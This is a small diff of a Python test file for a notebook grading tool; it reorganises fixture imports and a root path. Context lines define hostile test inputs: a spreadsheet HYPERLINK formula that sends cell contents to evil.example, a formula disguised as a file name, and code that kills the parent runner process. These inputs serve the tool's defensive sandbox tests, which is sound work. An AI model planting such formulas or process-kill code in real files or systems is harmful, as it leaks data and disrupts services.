@@ -18,12 +18,12 @@ from pathlib import Path
 
 import nbformat
 import pytest
+from test_grading_hostile import IMPORTS, PERFECT, TIMEOUT, WRONG, course, notebook, tree  # noqa: F401 - fixtures reused
 
 from helpers.grading import grade_folder
 from helpers.grading.box import bwrap_available
-from tests.test_grading_hostile import IMPORTS, PERFECT, TIMEOUT, WRONG, course, notebook, tree  # noqa: F401 - fixtures reused
 
-ROOT = Path(__file__).resolve().parent.parent
+ROOT = Path(__file__).resolve().parents[3]
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 NAME_FORMULA = '=HYPERLINK("evil.example","click")'  # a file name holds no "/"
 KILL_RUNNER = "import signal\nos.kill(os.getppid(), signal.SIGKILL)"
